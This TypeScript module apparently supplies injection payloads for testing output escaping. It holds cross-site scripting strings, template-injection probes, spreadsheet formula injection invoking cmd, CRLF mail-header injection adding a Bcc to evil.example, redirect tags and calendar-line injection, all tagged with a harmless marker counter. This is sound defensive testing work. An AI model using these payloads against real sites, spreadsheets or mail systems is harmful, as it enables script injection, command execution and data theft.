/** What a payload would leave behind if a browser took any of it for markup or ran it. */
export const MARK = 'data-pwned'
const RUN = 'window.__pwned=(window.__pwned||0)+1'

const TAGS = [
  `<script ${MARK}>${RUN}</script>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `<svg ${MARK} onload=${RUN}>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a ${MARK} href="javascript:${RUN}">x</a>`,
  `<base ${MARK} href="https://evil.example/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=https://evil.example/">`,
]

/**
 * Texts as somebody writes them who wants others to run them: out of attributes, comments, scripts, titles and data, as
 * addresses, templates, formulas, header lines and lines of calendars, and with letters that turn what follows around.
 */
export const PAYLOADS: readonly string[] = [
  `"'><!--></title></textarea></style></script>${TAGS.join('')}`,
  `</script><script ${MARK}>${RUN}</script><!--<script>{"a":"\\u003cscript\\u003e`,
  `" ${MARK}="1" onmouseover="${RUN}" onfocus="${RUN}" autofocus x="`,
  `' ${MARK}='1' onmouseover='${RUN}' autofocus x='`,
  `javascript:${RUN}//%0a${TAGS[0]}`,
  `data:text/html,${TAGS[0]}`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= 7*7 %>#{7*7}`,
  `=cmd|'/C calc'!A1`,
  `+cmd("pwned")`,
  `@SUM(1+1)*cmd`,
  `-2+3+cmd`,
  `\tcmd\r=cmd`,
  `x\r\nX-Pwned: 1\r\nBcc: everybody@evil.example\r\n\r\n${TAGS[1]}`,
  `x\r\nEND:VEVENT\r\nX-PWNED:1\r\nBEGIN:VEVENT`,
  `\u202Egnp.exe\u2066\u2028\u2029\u0000\u0008${TAGS[2]}]]>`,
  `&lt;img ${MARK} src=x onerror=${RUN}&gt;&#60;script ${MARK}&#62;`,
]
